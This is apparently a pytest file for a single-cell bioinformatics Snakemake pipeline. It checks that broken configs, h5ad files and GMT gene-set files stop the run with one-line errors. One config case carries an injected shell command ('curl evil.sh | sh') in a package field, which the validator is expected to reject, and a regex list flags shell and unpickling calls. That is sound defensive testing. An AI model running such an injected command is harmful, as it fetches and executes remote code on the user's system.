"""Bad input, tried as a new user would: one line naming the file or the key and the fix, a
non-zero exit, nothing partial under results/, and every check before the fits.

The starting point is a valid own-data project: 600 real IFN-beta-stimulated and control
PBMCs (Kang 2018, counts) as a local .h5ad and the paper's Reactome 4.0 GMT as a local gene
set file. Each case breaks one thing. Most run in-process (the config check, or the
prepare / fit scripts as Snakemake runs them); a few run the real ``snakemake`` command on a
copy of the workflow (marked slow).
"""

from __future__ import annotations

import copy
import os
import re
import shutil
import signal
import subprocess
import sys
import textwrap
import time
from collections.abc import Callable
from pathlib import Path

import anndata as ad
import numpy as np
import pytest
import scipy.sparse as sp
import yaml

from helpers import ROOT
from helpers.script_runner import run_as_snakemake
from helpers.workflow_copy import copy_workflow
from iae_pipeline.config import ConfigError, check_config, dataset_settings

SCHEMA = ROOT / "workflow" / "schemas" / "config.schema.yaml"
H5AD, GMT = "data/pbmc.h5ad", "data/reactome.gmt"


def own_config() -> dict:
    """A valid config for the own-data project (paths relative to the project folder)."""
    return {
        "seed": 0,
        "genesets": {"reactome": {"source": "local", "path": GMT}},
        "datasets": {
            "pbmc": {
                "source": "h5ad",
                "path": H5AD,
                "species": "human",
                "condition_key": "stim",
                "condition_positive": ["stimulated"],
                "cell_type_key": "cell_type",
                "genesets": ["reactome"],
                "preprocess": {"min_genes": 5},
            }
        },
        "models": {"ae": {"kind": "autoencoder", "options": {"epochs": 2, "hidden": [16]}}},
        "scoring": {"cv_folds": 5, "top_n": 5},
        "figures": {
            "fig1": {
                "model": "ae",
                "terms": ["REACTOME_INTERFERON_SIGNALING", "REACTOME_IMMUNE_SYSTEM"],
            },
            "fig2": {"terms": "INTERFERON", "models": ["ae"]},
        },
    }


@pytest.fixture(scope="module")
def source(real, tmp_path_factory) -> Path:
    """The project's files, made once: the h5ad (condition under obs['stim']) and the GMT."""
    folder = tmp_path_factory.mktemp("own")
    (folder / "data").mkdir()
    adata = ad.read_h5ad(real("expression/kang2018_liger_600.h5ad"))
    adata.obs["stim"] = adata.obs.pop("condition").astype(str)
    adata.write_h5ad(folder / H5AD)
    shutil.copyfile(real("genesets/c2.cp.reactome.v4.0.symbols.gmt"), folder / GMT)
    return folder


@pytest.fixture()
def project(source, tmp_path, monkeypatch) -> Path:
    """A fresh copy of the project as the working directory."""
    shutil.copytree(source / "data", tmp_path / "data")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def one_line(message: str, *names: str) -> None:
    assert message and "\n" not in message, message
    for name in names:
        assert name in message, (name, message)


def nothing_under_results(folder: Path) -> None:
    files = [p for p in (folder / "results").rglob("*") if p.is_file()]
    assert files == [], files


# ---- config: stopped before anything runs --------------------------------------------------


def _set(path: str, value) -> Callable[[dict], None]:
    """A change of the config at a dotted path (``None`` deletes the key)."""

    def change(config: dict) -> None:
        *parents, last = path.split(".")
        node = config
        for key in parents:
            node = node[key]
        if value is None:
            del node[last]
        else:
            node[last] = value

    return change


CONFIG_CASES = [
    ("unknown key", _set("colour", "red"), "(top level): Additional properties"),
    ("wrong type", _set("models.ae.options.epochs", "fifty"), "models.ae.options.epochs"),
    ("run names no dataset", _set("run", ["kang"]), "run: unknown dataset 'kang'"),
    ("unknown gene-set name", _set("datasets.pbmc.genesets", ["msigdb"]), "datasets.pbmc.genesets"),
    ("h5ad not found", _set("datasets.pbmc.path", "data/pbmc2.h5ad"), "datasets.pbmc.path"),
    ("GMT not found", _set("genesets.reactome.path", "data/r.gmt"), "genesets.reactome.path"),
    ("no condition key", _set("datasets.pbmc.condition_key", None), "'condition_key' is a requi"),
    ("no figures block", _set("figures", None), "figures.fig1.model: not set for dataset 'pbmc'"),
    ("no fig1", _set("figures.fig1", None), "figures.fig1.model: not set"),
    ("no fig2 terms", _set("figures.fig2", {"models": ["ae"]}), "figures.fig2.terms: not set"),
    ("bad fig2 pattern", _set("figures.fig2.terms", "IFN(A"), "figures.fig2.terms: 'IFN(A' is not"),
    ("unknown figure model", _set("figures.fig1.model", "vae"), "unknown model 'vae'"),
    ("one CV fold", _set("scoring.cv_folds", 1), "scoring.cv_folds"),
    ("device typo", _set("models.ae.options.device", "gpu"), "models.ae.options.device"),
    ("slalom option typo", _set("models.s", {"kind": "slalom", "options": {"nHidden": 3}}),
     "models.s.options"),
    ("overlap above 1", _set("datasets.pbmc.preprocess.min_overlap", 2), "min_overlap"),
    ("drop_unlabelled not a bool", _set("datasets.pbmc.drop_unlabelled", "yes"), "drop_unlabelled"),
    ("plain http download", _set("genesets.h", {"source": "url", "url": "http://x.org/h.gmt"}),
     "genesets.h.url: 'http://x.org/h.gmt' is not https"),
    ("gene-set name leaving resources/",
     lambda c: c["genesets"].update({"../../x": {"source": "local", "path": GMT}}), "'../../x' does not match"),
    ("shell in a package spec",
     _set("genesets.w", {"source": "pypi_wheel", "package": "x==1; curl evil.sh | sh",
                         "members": ["a.gmt"], "sha256": ""}), "genesets.w.package"),
    ("archive member leaving its folder",
     _set("genesets.z", {"source": "url", "url": "https://x.org/s.zip", "members": ["../s.gmt"]}),
     "genesets.z.members.0"),
]  # fmt: skip


@pytest.mark.parametrize(
    "change,names", [c[1:] for c in CONFIG_CASES], ids=[c[0] for c in CONFIG_CASES]
)
def test_config_errors_are_one_line_naming_the_key(project, change, names):
    config = own_config()
    change(config)
    with pytest.raises(ConfigError) as err:
        check_config(config, SCHEMA, base_dir=project)
    one_line(str(err.value), "config error: ", names)
    # the check writes nothing; that Snakemake stops on it before any job, with nothing under
    # results/, is test_cli_a_config_error_is_the_only_line's


def test_the_valid_project_passes_and_odd_characters_are_only_data(project):
    """Values with quotes and ';' never reach a shell: they are paths like any other."""
    check_config(own_config(), SCHEMA, base_dir=project)
    odd = project / "data" / 'we\'ird; name "x".h5ad'
    shutil.copyfile(project / H5AD, odd)
    config = own_config()
    config["datasets"]["pbmc"]["path"] = str(odd.relative_to(project))
    check_config(config, SCHEMA, base_dir=project)
    assert prepare(project, config, h5ad=str(odd.relative_to(project))) == 0


# ---- data and gene sets: stopped by prepare, before any fit --------------------------------


def prepare(folder: Path, config: dict, h5ad: str = H5AD, gmt: str = GMT) -> int:
    """Run the prepare script as Snakemake would, in ``folder``; return its exit status."""
    return run_as_snakemake(
        "prepare",
        input={"h5ad": h5ad, "genesets": [gmt]},
        output={"prepared": "results/pbmc/prepared.h5ad"},
        log={"log": "logs/pbmc/prepare.log"},
        params={
            "dataset": dataset_settings(config, "pbmc"),
            "genesets": [dict(config["genesets"]["reactome"], name="reactome")],
            "seed": 0,
        },
        config=config,
    )


def the_error(folder: Path, log: str = "logs/pbmc/prepare.log") -> str:
    errors = [ln for ln in (folder / log).read_text().splitlines() if " ERROR " in ln]
    assert len(errors) == 1, errors
    return errors[0]


def _edit_h5ad(edit: Callable[[ad.AnnData], ad.AnnData | None]) -> Callable[[Path, dict], None]:
    def change(folder: Path, config: dict) -> None:
        adata = ad.read_h5ad(folder / H5AD)
        edited = edit(adata)
        adata = adata if edited is None else edited
        adata.write_h5ad(folder / H5AD)

    return change


def _unlabel(values) -> Callable[[ad.AnnData], None]:
    def edit(adata: ad.AnnData) -> None:
        stim = adata.obs["stim"].astype(object)
        stim.iloc[:20] = values
        adata.obs["stim"] = stim

    return edit


def _value(row: int, col: int, value: float, sparse: bool) -> Callable[[ad.AnnData], None]:
    def edit(adata: ad.AnnData) -> None:
        X = adata.X.toarray() if sp.issparse(adata.X) else np.array(adata.X)
        X[row, col] = value
        adata.X = sp.csr_matrix(X) if sparse else X

    return edit


def _config(path: str, value) -> Callable[[Path, dict], None]:
    change = _set(path, value)
    return lambda folder, config: change(config)


def _gmt(text: bytes) -> Callable[[Path, dict], None]:
    def change(folder: Path, config: dict) -> None:
        (folder / GMT).write_bytes(text)

    return change


def _keep_stimulated(n: int) -> Callable[[ad.AnnData], ad.AnnData]:
    def edit(adata: ad.AnnData) -> ad.AnnData:
        stim = np.flatnonzero(adata.obs["stim"] == "stimulated")[:n]
        return adata[np.r_[np.flatnonzero(adata.obs["stim"] == "control"), stim]].copy()

    return edit


def _gene_names(adata: ad.AnnData) -> None:
    adata.var_names = [g.lower() for g in adata.var_names]  # not human symbols


def _mock_class(adata: ad.AnnData) -> None:
    adata.obs["stim"] = np.where(np.arange(adata.n_obs) < 50, "mock", adata.obs["stim"])


def _not_h5ad(folder: Path, config: dict) -> None:
    (folder / H5AD).write_text("cell,stim\nc1,control\n")


SETS = b"REACTOME_A\tu\tISG15\tIFI6\tMX1\nREACTOME_B\tu\tCD74\tHLA-DRA\tCD79A\n"

DATA_CASES = [
    # labels: never silently counted as a class
    ("NaN labels", _edit_h5ad(_unlabel(np.nan)), [H5AD, "20 of 600 cells have no condition label",
                                                  "datasets.pbmc.drop_unlabelled: true"]),
    ("NaN labels, 3 classes", (_edit_h5ad(_unlabel(None)),
                               _config("datasets.pbmc.condition_positive", None)),
     [H5AD, "20 of 600 cells have no condition label"]),
    ("empty labels", _edit_h5ad(_unlabel("")), [H5AD, "20 of 600 cells"]),
    ("no such condition key", _config("datasets.pbmc.condition_key", "condition"),
     [H5AD, "obs has no key 'condition'", "datasets.pbmc.condition_key"]),
    ("no such cell-type key", _config("datasets.pbmc.cell_type_key", "celltype"),
     [H5AD, "datasets.pbmc.cell_type_key"]),
    ("one class", (_config("datasets.pbmc.condition_key", "cell_type"),
                   _config("datasets.pbmc.condition_positive", None)),
     [H5AD, "has 1 class(es) ['PBMC']", "exactly two classes"]),
    ("three classes", (_edit_h5ad(_mock_class), _config("datasets.pbmc.condition_positive", None)),
     [H5AD, "3 class(es)", "condition_positive"]),
    ("positive class absent", _config("datasets.pbmc.condition_positive", ["IFN"]),
     [H5AD, "condition_positive value(s) ['IFN'] not found"]),
    # class sizes against the CV folds, before the fits
    ("3 cells in a class, 5 folds", _edit_h5ad(_keep_stimulated(3)),
     [H5AD, "{'stimulated': 3}", "scoring.cv_folds = 5", "lower scoring.cv_folds to 3"]),
    ("1 cell in a class", _edit_h5ad(_keep_stimulated(1)),
     [H5AD, "{'stimulated': 1}", "needs at least 2 cells"]),
    # sizes
    ("0 cells", _edit_h5ad(lambda a: a[:0].copy()), [H5AD, "the file has 0 cell(s)"]),
    ("1 cell", _edit_h5ad(lambda a: a[:1].copy()), [H5AD, "the file has 1 cell(s)"]),
    ("0 genes", _edit_h5ad(lambda a: a[:, :0].copy()), [H5AD, "x 0 gene(s)"]),
    # values: every one checked
    ("one NaN, dense", _edit_h5ad(_value(599, 248, np.nan, sparse=False)),
     [H5AD, "1 NaN or infinite value(s) in 1 cell(s)"]),
    ("one Inf, sparse", _edit_h5ad(_value(311, 7, np.inf, sparse=True)),
     [H5AD, "1 NaN or infinite value(s)"]),
    ("scaled data", _edit_h5ad(lambda a: setattr(a, "X", a.X.toarray() - 1.0)),
     [H5AD, "negative values", "raw counts, log-normalised values"]),
    ("not an h5ad", _not_h5ad, [H5AD, "cannot be read as .h5ad"]),
    ("other species", _edit_h5ad(_gene_names), ["pbmc", "different species or symbols"]),
    # what the fits and figures will need
    ("covariate not in obs", _config("models.ae.options.covariates", ["donor"]),
     ["models.ae.options.covariates: 'donor' is not an obs column", H5AD]),
    ("covariate with NaN", (_edit_h5ad(lambda a: a.obs.__setitem__(
        "batch", np.where(np.arange(a.n_obs) == 5, None, "b1"))),
        _config("models.ae.options.covariates", ["batch"])), ["obs['batch']", "1 missing"]),
    ("figure term misspelt", _config("figures.fig1.terms",
                                     ["REACTOME_INTERFERON_SIGNALLING", "REACTOME_IMMUNE_SYSTEM"]),
     ["figures.fig1.terms", "REACTOME_INTERFERON_SIGNALING"]),
    ("figure pattern finds nothing", _config("figures.fig2.terms", "INTERFERON_GAMMA_X"),
     ["figures.fig2.terms", "matches none"]),
    ("figure 3 cell type absent", _config("figures.fig3", {
        "model": "ae", "terms": ["REACTOME_INTERFERON_SIGNALING", "REACTOME_IMMUNE_SYSTEM"],
        "cell_types": ["B cells"], "group_key": "stim"}), ["figures.fig3.cell_types", "B cells"]),
    ("min_genes too high", _config("datasets.pbmc.preprocess.min_genes", 500),
     ["min_genes=500", "preprocess.min_genes"]),
    # gene-set files
    ("GMT in Latin-1", _gmt(SETS.replace(b"MX1", b"MX\xc91")), [GMT + ":1", "not UTF-8"]),
    ("GMT in UTF-16", _gmt(SETS.decode().encode("utf-16")), [GMT, "UTF-16"]),
    ("GMT blank line", _gmt(SETS.replace(b"\nREACTOME_B", b"\n\nREACTOME_B")),
     [GMT + ":2", "blank line"]),
    ("GMT duplicate set", _gmt(SETS + SETS[:40] + b"\n"), [GMT + ":3", "duplicate gene set"]),
    ("GMT one-gene set", _gmt(SETS + b"REACTOME_C\tu\tISG15\n"), [GMT + ":3", "drop_small_sets"]),
    ("GMT with spaces", _gmt(SETS.replace(b"\t", b" ")), [GMT + ":1", "tab-separated"]),
    ("GMT is an HTML page", _gmt(b"<!DOCTYPE html><html>404</html>\n"), [GMT, "HTML page"]),
    ("GMT empty", _gmt(b""), [GMT, "no gene sets found"]),
]  # fmt: skip


@pytest.mark.parametrize(
    "changes,names", [c[1:] for c in DATA_CASES], ids=[c[0] for c in DATA_CASES]
)
def test_bad_data_stops_prepare_with_one_line(project, changes, names):
    config = own_config()
    for change in changes if isinstance(changes, tuple) else (changes,):
        change(project, config)
    assert prepare(project, config) == 1
    one_line(the_error(project), *names)
    nothing_under_results(project)


def test_unlabelled_cells_are_dropped_on_request_with_a_log_line(project):
    _edit_h5ad(_unlabel(np.nan))(project, {})
    config = own_config()
    config["datasets"]["pbmc"]["drop_unlabelled"] = True
    assert prepare(project, config) == 0
    log = (project / "logs/pbmc/prepare.log").read_text()
    assert f"{H5AD} obs['stim']: dropped 20 of 600 cells without a condition label" in log
    prepared = ad.read_h5ad(project / "results/pbmc/prepared.h5ad")
    assert prepared.n_obs == 580 and set(prepared.obs["condition"]) == {
        "control",
        "stimulated",
    }  # the rest keeps its label


def test_a_byte_order_mark_does_not_rename_the_first_set(project):
    text = (project / GMT).read_bytes()
    (project / GMT).write_bytes(b"\xef\xbb\xbf" + text)
    first = text.split(b"\t", 1)[0].decode()
    config = own_config()
    config["datasets"]["pbmc"]["preprocess"]["min_genes"] = 1
    assert prepare(project, config) == 0
    terms = ad.read_h5ad(project / "results/pbmc/prepared.h5ad").uns["geneset_terms"]
    assert not any(t.startswith("\ufeff") for t in terms)
    assert first in text.decode() and all("\ufffd" not in t for t in terms)


# ---- faults ---------------------------------------------------------------------------------


def fit_autoencoder(folder: Path, options: dict) -> int:
    return run_as_snakemake(
        "fit_autoencoder",
        threads=1,
        input={"prepared": "results/pbmc/prepared.h5ad"},
        output={"factors": "results/pbmc/ae/factors.h5ad", "model": "results/pbmc/ae/model"},
        params={"options": options, "seed": 0, "setup": "ae"},
        log={"log": "logs/pbmc/fit_autoencoder_ae.log"},
    )


@pytest.mark.skipif(__import__("torch").cuda.is_available(), reason="this machine has CUDA")
def test_cuda_without_cuda_is_one_line_before_the_data_are_read(project):
    assert prepare(project, own_config()) == 0
    (project / "results/pbmc/prepared.h5ad").write_bytes(b"not read: the device comes first")
    assert fit_autoencoder(project, {"epochs": 1, "device": "cuda"}) == 1
    error = the_error(project, "logs/pbmc/fit_autoencoder_ae.log")
    one_line(error, "models.ae.options.device: 'cuda'", "no CUDA device", "device: auto")
    assert not (project / "results/pbmc/ae").exists()


def test_a_damaged_prepared_file_is_named(project):
    assert prepare(project, own_config()) == 0
    prepared = project / "results/pbmc/prepared.h5ad"
    prepared.write_bytes(prepared.read_bytes()[:30000])  # e.g. a copy cut short
    assert fit_autoencoder(project, {"epochs": 1}) == 1
    error = the_error(project, "logs/pbmc/fit_autoencoder_ae.log")
    one_line(error, "results/pbmc/prepared.h5ad: cannot be read", "delete it and rerun")
    assert not (project / "results/pbmc/ae").exists()


@pytest.mark.slow
def test_a_full_disk_while_preparing_is_one_line(project):
    """prepare writing past a file-size limit (what a full disk does, without root): one line
    on the terminal, exit 1, no prepared file and no temporary file."""
    config = own_config()
    driver = project / "driver.py"
    driver.write_text(
        textwrap.dedent(
            f"""
            import resource, signal, sys
            sys.path.insert(0, {str(ROOT / "tests")!r})
            from helpers.script_runner import run_as_snakemake
            from iae_pipeline.config import dataset_settings
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
            resource.setrlimit(resource.RLIMIT_FSIZE, (100_000, 100_000))
            config = {config!r}
            sys.exit(run_as_snakemake(
                "prepare", input={{"h5ad": {H5AD!r}, "genesets": [{GMT!r}]}},
                output={{"prepared": "results/pbmc/prepared.h5ad"}},
                log={{"log": "logs/pbmc/prepare.log"}},
                params={{"dataset": dataset_settings(config, "pbmc"),
                         "genesets": [{{"name": "reactome", "source": "local"}}], "seed": 0}},
                config=config))
            """
        )
    )
    env = dict(os.environ, PYTHONPATH=str(ROOT / "workflow" / "lib"))
    proc = subprocess.run(
        [sys.executable, str(driver)], capture_output=True, text=True, env=env, timeout=120
    )
    assert proc.returncode == 1, proc.stderr[-3000:]
    assert len(proc.stderr.strip().splitlines()) == 1, proc.stderr[-3000:]
    line = proc.stderr.strip()
    one_line(line, "results/pbmc/prepared.h5ad: no space left on the device", "df -h")
    nothing_under_results(project)


# ---- security: nothing from the config reaches a shell or an unpickler ---------------------

SOURCES = [
    *sorted((ROOT / "workflow").rglob("*.py")),
    *sorted((ROOT / "workflow").rglob("*.smk")),
    ROOT / "workflow" / "Snakefile",
    ROOT / "Snakefile",
]


@pytest.mark.parametrize(
    "pattern",
    [r"^\s*shell:", r"shell\s*=\s*True", r"os\.system\(", r"os\.popen\(", r"torch\.load\(",
     r"pickle\.loads?\(", r"allow_pickle\s*=\s*True", r"(?<![.\w])eval\(", r"(?<![.\w])exec\("],
)  # fmt: skip
def test_no_shell_and_no_unpickling_in_the_workflow(pattern):
    hits = [
        f"{path.relative_to(ROOT)}:{n}"
        for path in SOURCES
        for n, line in enumerate(path.read_text().splitlines(), 1)
        if re.search(pattern, line)
    ]
    assert hits == []


# ---- the real snakemake command -------------------------------------------------------------


def snakemake_in(folder: Path, *args: str, timeout: int = 600) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "snakemake", "--configfile", "own.yaml", "--cores", "1", *args],
        cwd=folder, capture_output=True, text=True, timeout=timeout,
    )  # fmt: skip


@pytest.fixture()
def workflow_project(project) -> Path:
    copy_workflow(project)
    return project


def write_config(folder: Path, config: dict) -> None:
    (folder / "own.yaml").write_text(yaml.safe_dump(config))


@pytest.mark.slow
def test_cli_a_config_error_is_the_only_line(workflow_project):
    config = own_config()
    del config["figures"]
    write_config(workflow_project, config)
    proc = snakemake_in(workflow_project)
    assert proc.returncode != 0
    lines = [ln for ln in proc.stderr.splitlines() if ln.strip()]
    assert len(lines) == 1, proc.stderr
    one_line(lines[0], "config error: figures.fig1.model: not set for dataset 'pbmc'")
    assert not (workflow_project / "results").exists()


@pytest.mark.slow
def test_cli_a_failed_job_repeats_its_line_at_the_end(workflow_project):
    _edit_h5ad(_unlabel(np.nan))(workflow_project, {})
    write_config(workflow_project, own_config())
    proc = snakemake_in(workflow_project)
    assert proc.returncode != 0
    tail = proc.stderr.strip().splitlines()[-6:]
    repeated = [ln for ln in tail if ln.startswith("error in prepare: ")]
    assert len(repeated) == 1, proc.stderr[-3000:]
    one_line(repeated[0], H5AD, "20 of 600 cells have no condition label", "drop_unlabelled")
    nothing_under_results(workflow_project)


@pytest.mark.slow
def test_cli_after_a_kill_unlock_and_rerun(workflow_project):
    """Kill Snakemake during a fit: the rerun names the lock; --unlock, then it completes."""
    config = own_config()
    config["models"]["ae"]["options"]["epochs"] = 400
    write_config(workflow_project, config)
    cmd = [sys.executable, "-m", "snakemake", "--configfile", "own.yaml", "--cores", "1"]
    proc = subprocess.Popen(cmd, cwd=workflow_project, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL, start_new_session=True)  # fmt: skip
    log = workflow_project / "logs/pbmc/fit_autoencoder_ae_rep0.log"
    deadline = time.monotonic() + 300
    while not log.exists() and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.2)
    assert proc.poll() is None, "the run ended before the fit started"
    time.sleep(2)
    os.killpg(proc.pid, signal.SIGKILL)  # Snakemake and its job, as a lost node would
    proc.wait(timeout=60)
    assert not (workflow_project / "results/pbmc/ae/rep0/factors.h5ad").exists()
    config["models"]["ae"]["options"]["epochs"] = 2
    write_config(workflow_project, config)
    locked = snakemake_in(workflow_project)
    assert locked.returncode != 0 and "--unlock" in locked.stderr, locked.stderr[-2000:]
    assert snakemake_in(workflow_project, "--unlock").returncode == 0
    done = snakemake_in(workflow_project)
    assert done.returncode == 0, done.stderr[-3000:]
    assert (workflow_project / "results/pbmc/figures/fig2_accuracy.png").is_file()
    leftovers = [p for p in (workflow_project / "results").rglob(".*") if ".part" in p.name]
    assert leftovers == []


def test_the_battery_has_at_least_forty_cases():
    assert len(CONFIG_CASES) + len(DATA_CASES) >= 40
    # every case changes the config it is given, and only that one: the next case starts
    # from the valid config again
    pristine = copy.deepcopy(own_config())
    for name, change, _ in CONFIG_CASES:
        config = own_config()
        change(config)
        assert config != pristine, name
        assert own_config() == pristine, name
